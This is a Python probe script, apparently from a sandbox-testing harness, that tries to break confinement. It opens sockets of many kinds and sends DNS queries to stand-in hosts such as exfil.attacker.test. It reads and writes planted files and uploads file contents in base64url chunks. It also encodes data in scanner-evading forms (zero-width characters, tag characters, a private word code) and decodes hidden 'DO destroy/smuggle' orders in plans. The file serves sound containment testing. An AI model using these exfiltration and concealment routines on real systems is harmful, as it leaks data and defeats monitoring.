#!/usr/bin/env python3
"""probe.py: what attacker.sh cannot do in sh alone: open sockets, read files it should not
see, find the orders hidden in a plan and encode what it steals. It runs inside a compartment
(or, for the contrast, unconfined on the host) with the Python standard library only.

Each attempt prints one line on standard output, read back from the session's transcript:

    RESULT <probe> <ok|ERRNO-NAME|HTTP-NNN> <detail>

ok means the attempt did what the attacker wanted (a connection made, bytes read); anything
else is how it was refused. The harness does not trust these lines alone: a network probe
counts as a success only when the harness's own listener received its tag, a file probe only
when the bytes it prints are the planted secret's.

    probe.py net JSON            every network probe; JSON names the listeners and the tag
    probe.py files JSON          read (a directory: list) and write the paths JSON names
    probe.py orders FILE         the orders (lines "DO ...") a plan carries, decoded
    probe.py encode ENC          standard input in encoding ENC, on standard output
    probe.py upload URL TAG FILE FILE's bytes to URL in GET requests (base64url chunks)

The harness imports this file for encode() and decode(), so that the attacker's encodings and
the harness's reading of what arrived cannot drift apart.
"""

import base64
import codecs
import errno
import json
import os
import re
import socket
import sys
import urllib.parse
import urllib.request

# Encodings of the shared corpora's exfil/outbound.jsonl, then some the corpora do not
# have: what an attacker who knows the scanner would reach for.
CORPUS_ENCODINGS = ["raw", "base64", "base64url", "hex", "rot13", "reversed", "percent",
                    "char_spaced", "split_lines", "zero_width", "tag"]
BEYOND_ENCODINGS = ["xor_hex", "decimal", "caesar3", "words"]
XOR_KEY = 0x5A
# A private code: each byte as two words, its high and low four bits. Only someone who knows
# the list can read it; to a scanner it is a run of ordinary words.
WORDS = ["apple", "brook", "cedar", "delta", "ember", "fjord", "grove", "harbor", "iris",
         "juniper", "kestrel", "lumen", "maple", "north", "otter", "pebble"]


def _text(b):
    return b.decode("utf-8", errors="replace")


def encode(enc, data):
    """data (bytes) in encoding enc, as text."""
    if enc == "raw":
        return _text(data)
    if enc == "base64":
        return base64.b64encode(data).decode()
    if enc == "base64url":
        return base64.urlsafe_b64encode(data).decode().rstrip("=")
    if enc == "hex":
        return data.hex()
    if enc == "rot13":
        return codecs.encode(_text(data), "rot13")
    if enc == "reversed":
        return _text(data)[::-1]
    if enc == "percent":
        return "".join("%%%02X" % b for b in data)
    if enc == "char_spaced":
        return " ".join(_text(data))
    if enc == "split_lines":
        t = _text(data).replace("\n", " ")
        return "\n".join(t[i:i + 10] for i in range(0, len(t), 10))
    if enc == "zero_width":
        return "\u2060".join("".join("\u200c" if (b >> (7 - i)) & 1 else "\u200b"
                                     for i in range(8)) for b in data)
    if enc == "tag":
        return "".join(chr(0xE0000 + b) for b in data if 0x20 <= b < 0x7f)
    if enc == "xor_hex":
        return bytes(b ^ XOR_KEY for b in data).hex()
    if enc == "decimal":
        return " ".join(str(b) for b in data)
    if enc == "words":
        return " ".join(WORDS[b >> 4] + " " + WORDS[b & 15] for b in data)
    if enc == "caesar3":
        return "".join(chr((ord(c) - 97 + 3) % 26 + 97) if "a" <= c <= "z" else
                       chr((ord(c) - 65 + 3) % 26 + 65) if "A" <= c <= "Z" else c
                       for c in _text(data))
    raise ValueError("unknown encoding " + enc)


def decode(enc, text):
    """The inverse of encode(): the bytes an attacker recovers from text (best effort: text
    around the encoded run is tolerated where the encoding allows)."""
    if enc == "raw":
        return text.encode()
    if enc in ("base64", "base64url"):
        runs = re.findall(r"[A-Za-z0-9+/_=-]{8,}", text)
        run = max(runs, key=len) if runs else ""
        run = run.replace("-", "+").replace("_", "/").rstrip("=")
        return base64.b64decode(run + "=" * (-len(run) % 4), validate=False)
    if enc in ("hex", "xor_hex"):
        runs = re.findall(r"(?:[0-9a-fA-F]{2}){4,}", text)
        b = bytes.fromhex(max(runs, key=len)) if runs else b""
        return bytes(x ^ XOR_KEY for x in b) if enc == "xor_hex" else b
    if enc == "rot13":
        return codecs.encode(text, "rot13").encode()
    if enc == "reversed":
        return text[::-1].encode()
    if enc == "percent":
        return urllib.parse.unquote_to_bytes(text)
    if enc == "char_spaced":
        return re.sub(r"(?<=\S) (?=\S)", "", text).encode()
    if enc == "split_lines":
        return text.replace("\n", "").encode()
    if enc == "zero_width":
        bits = "".join("1" if c == "\u200c" else "0" if c == "\u200b" else " " if c == "\u2060"
                       else "" for c in text)
        return bytes(int(g, 2) for g in bits.split() if len(g) == 8)
    if enc == "tag":
        return "".join(chr(ord(c) - 0xE0000) for c in text
                       if 0xE0020 <= ord(c) <= 0xE007E).encode()
    if enc == "decimal":
        return bytes(int(x) for x in re.findall(r"\b\d{1,3}\b", text) if int(x) < 256)
    if enc == "words":
        n = [WORDS.index(w) for w in re.findall(r"[a-z]+", text) if w in WORDS]
        return bytes(n[i] << 4 | n[i + 1] for i in range(0, len(n) - 1, 2))
    if enc == "caesar3":
        return "".join(chr((ord(c) - 97 - 3) % 26 + 97) if "a" <= c <= "z" else
                       chr((ord(c) - 65 - 3) % 26 + 65) if "A" <= c <= "Z" else c
                       for c in text).encode()
    raise ValueError("unknown encoding " + enc)


def hidden_layers(text):
    """What a plan says once its hiding is undone: the text itself, its tag characters as
    ASCII, its zero-width binary as bytes, and every base64 run decoded."""
    out = [text, decode("tag", text).decode(errors="replace"),
           decode("zero_width", text).decode(errors="replace")]
    for run in re.findall(r"[A-Za-z0-9+/]{8,}={0,2}", text):
        try:
            out.append(base64.b64decode(run + "=" * (-len(run) % 4)).decode())
        except (ValueError, UnicodeDecodeError):
            pass
    return out


def orders(text):
    """Orders are "DO <verb> <args>" (destroy, launder, smuggle PATH ENC) in any layer."""
    found = []
    for layer in hidden_layers(text):
        for m in re.finditer(r"\bDO (destroy|launder|smuggle [^\s<>]+ [a-z0-9_]+)", layer):
            if m.group(1) not in found:
                found.append(m.group(1))
    return found


def say(probe, result, detail=""):
    detail = re.sub(r"[^\x20-\x7e]", "?", str(detail))[:160]
    print("RESULT %s %s %s" % (probe, result, detail), flush=True)


def errname(e):
    if isinstance(e, OSError) and e.errno:
        return errno.errorcode.get(e.errno, "E%d" % e.errno)
    if isinstance(e, socket.timeout):
        return "ETIMEDOUT"
    return type(e).__name__


def attempt(probe, fn):
    try:
        detail = fn()
        say(probe, "ok", detail or "")
    except urllib.error.HTTPError as e:
        say(probe, "HTTP-%d" % e.code, e.headers.get("X-Airlock", ""))
    except Exception as e:  # every refusal is a result to report
        say(probe, errname(e), e)


def stream(family, addr, payload, kind=socket.SOCK_STREAM):
    s = socket.socket(family, kind)
    try:
        s.settimeout(3)
        if kind == socket.SOCK_DGRAM:
            s.sendto(payload, addr)
            return "sent %d bytes" % len(payload)
        s.connect(addr)
        s.sendall(payload)
        return "connected, sent %d bytes" % len(payload)
    finally:
        s.close()


def dns_query(name):
    """A DNS question for name (the stolen data as its first label), as a resolver sends it."""
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00\x00\x01\x00\x01"


def net(spec):
    """spec: {"tag": what to send, "tcp": port, "udp": port, "dns": port, "tcp6" and "udp6":
    ports or absent, "abstract": name, "unix": [paths], "http": [URLs, through the proxy
    when there is one]}."""
    tag = spec["tag"]
    payload = ("%s\n" % tag).encode()
    label = re.sub(r"[^a-z0-9-]", "-", tag.lower())[:60]
    attempt("tcp4-loopback", lambda: stream(socket.AF_INET, ("127.0.0.1", spec["tcp"]), payload))
    attempt("udp4-loopback", lambda: stream(socket.AF_INET, ("127.0.0.1", spec["udp"]), payload,
                                            socket.SOCK_DGRAM))
    attempt("dns-udp-loopback", lambda: stream(socket.AF_INET, ("127.0.0.1", spec["dns"]),
                                               dns_query(label + ".exfil.attacker.test"),
                                               socket.SOCK_DGRAM))
    attempt("dns-tcp-loopback", lambda: stream(socket.AF_INET, ("127.0.0.1", spec["tcp"]),
                                               dns_query(label + ".tcp.attacker.test")))
    if spec.get("tcp6"):
        attempt("tcp6-loopback", lambda: stream(socket.AF_INET6, ("::1", spec["tcp6"]), payload))
        attempt("udp6-loopback", lambda: stream(socket.AF_INET6, ("::1", spec["udp6"]), payload,
                                                socket.SOCK_DGRAM))
    attempt("abstract-unix", lambda: stream(socket.AF_UNIX, "\0" + spec["abstract"], payload))
    for i, path in enumerate(spec.get("unix", [])):
        attempt("unix-socket-%d" % i, lambda: stream(socket.AF_UNIX, path, payload))
    attempt("raw-socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW,
                                                socket.IPPROTO_ICMP).close() or "opened")
    attempt("netlink-route", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW,
                                                   0).close() or "opened")
    for i, url in enumerate(spec.get("http", [])):
        attempt("proxy-%d" % i, lambda: urllib.request.urlopen(
            url + "?" + urllib.parse.quote(tag), timeout=5).read(64).decode(errors="replace"))


def files(spec):
    """spec: {"tag": what to write, "read": [paths], "write": [paths]}."""
    for p in spec.get("read", []):
        def read(p=p):
            if os.path.isdir(p):
                return "listed: " + " ".join(sorted(os.listdir(p))[:20])
            with open(p, "rb") as f:
                return "read: " + f.read(120).decode(errors="replace").replace("\n", "|")
        attempt("read:" + p, read)
    for p in spec.get("write", []):
        def put(p=p):
            with open(p, "w") as f:
                f.write(spec["tag"] + "\n")
            return "wrote"
        attempt("write:" + p, put)


def upload(url, tag, path):
    """The file's bytes to the attacker's collector, in pieces small enough for a URL."""
    with open(path, "rb") as f:
        data = base64.urlsafe_b64encode(f.read()).decode().rstrip("=")
    parts = [data[i:i + 1500] for i in range(0, len(data), 1500)] or [""]
    for i, p in enumerate(parts):
        urllib.request.urlopen("%s/c/%s/%d/%d/%s" % (url, tag, i, len(parts), p),
                               timeout=10).read()
    return "uploaded %d bytes in %d requests" % (len(data), len(parts))


def main(argv):
    cmd = argv[1]
    if cmd == "net":
        net(json.loads(argv[2]))
    elif cmd == "files":
        files(json.loads(argv[2]))
    elif cmd == "orders":
        with open(argv[2], encoding="utf-8", errors="replace") as f:
            for o in orders(f.read()):
                print(o)
    elif cmd == "encode":
        sys.stdout.write(encode(argv[2], sys.stdin.buffer.read()))
    elif cmd == "upload":
        attempt("upload:" + argv[3], lambda: upload(argv[2], argv[3], argv[4]))
    else:
        print("probe.py: unknown command " + cmd, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
